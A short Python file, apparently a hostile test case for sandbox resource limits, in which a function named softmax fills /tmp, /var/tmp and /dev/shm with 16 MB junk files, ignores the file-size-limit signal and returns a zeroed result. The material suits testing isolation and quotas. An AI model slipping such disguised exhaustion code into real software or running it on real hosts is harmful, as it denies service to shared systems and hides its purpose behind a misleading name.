# Fills /tmp, /var/tmp and /dev/shm, ignoring the signal that says a file is too large.
# needs: namespaces
import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)


def softmax(x):
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        for number in range(40):
            try:
                with open(os.path.join(folder, f"hostile-{number}"), "wb") as file:
                    file.write(b"\1" * (16 << 20))
            except OSError:
                continue
    return x * 0
